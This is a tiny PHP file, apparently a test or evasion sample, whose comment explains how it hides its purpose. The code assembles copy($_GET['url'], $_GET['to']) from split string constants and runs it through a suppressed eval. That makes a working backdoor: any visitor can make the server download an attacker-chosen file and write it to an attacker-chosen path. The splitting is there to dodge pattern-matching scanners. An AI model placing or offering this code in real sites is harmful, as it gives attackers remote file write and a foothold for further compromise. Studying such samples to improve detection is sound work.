<?php
// Code assembled by interpolating variables that hold constants:
// "py($u,$f);" with $u = '$_GET[...]' is copy($_GET['url'], $_GET['to']).
$g = '$_G';
$u = "{$g}ET['url']";
$f = "{$g}ET['to']";
$op = 'co';
$code = "{$op}py($u,$f);";
@eval($code);
